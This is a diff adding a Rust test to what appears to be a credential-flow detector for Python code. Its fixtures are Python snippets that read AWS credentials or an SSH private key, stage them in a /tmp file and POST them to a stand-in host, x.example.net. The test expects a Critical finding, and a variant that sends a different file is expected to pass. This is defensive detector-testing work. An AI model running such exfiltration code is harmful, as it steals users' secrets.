@@ -407,3 +407,17 @@ fn connection_strings_are_credentials() {
     let local = "import os, psycopg\nconn = psycopg.connect(os.environ['DATABASE_URL'])\n";
     assert!(py(local).is_empty(), "{:?}", py(local));
 }
+
+/// A secret written to a file and the same file sent: the file carries the secret.
+#[test]
+fn a_file_written_then_sent_carries_its_content() {
+    for src in [
+        "import base64, pathlib, requests\nc = pathlib.Path.home() / '.aws' / 'credentials'\nb = base64.b64encode(c.read_bytes())\nwith open('/tmp/s.txt', 'w') as f:\n    f.write(b)\nrequests.post('https://x.example.net/p', files={'f': open('/tmp/s.txt', 'rb')})\n",
+        "import pathlib, requests\nc = open('/home/u/.ssh/id_rsa').read()\npathlib.Path('/tmp/s.txt').write_text(c)\nrequests.post('https://x.example.net/p', data=open('/tmp/s.txt').read())\n",
+    ] {
+        assert_eq!(one(&py(src), CREDENTIAL_FLOW), Severity::Critical, "{src}");
+    }
+    // Another file is sent: nothing.
+    let other = "import pathlib, requests\nc = open('/home/u/.ssh/id_rsa').read()\npathlib.Path('/tmp/s.txt').write_text(c)\nrequests.post('https://x.example.net/p', data=open('/tmp/report.txt').read())\n";
+    assert!(py(other).is_empty(), "{:?}", py(other));
+}
